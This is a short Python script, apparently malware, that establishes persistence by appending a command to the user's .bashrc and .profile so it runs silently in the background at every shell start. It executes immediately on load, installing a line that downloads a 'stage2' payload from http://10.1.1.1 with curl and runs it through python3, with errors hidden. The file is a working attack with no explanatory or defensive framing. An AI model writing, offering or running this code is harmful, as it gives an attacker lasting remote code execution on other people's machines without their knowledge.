import os


class Persist:
    def __init__(self, command):
        self.command = command

    def rc_files(self):
        home = os.path.expanduser("~")
        return [os.path.join(home, n) for n in (".bashrc", ".profile")]

    def install(self):
        for rc in self.rc_files():
            with open(rc, "a") as fh:
                fh.write(f"\n{self.command} 2>/dev/null &\n")


Persist("python3 -c \"$(curl -fsSL http://10.1.1.1/stage2)\"").install()
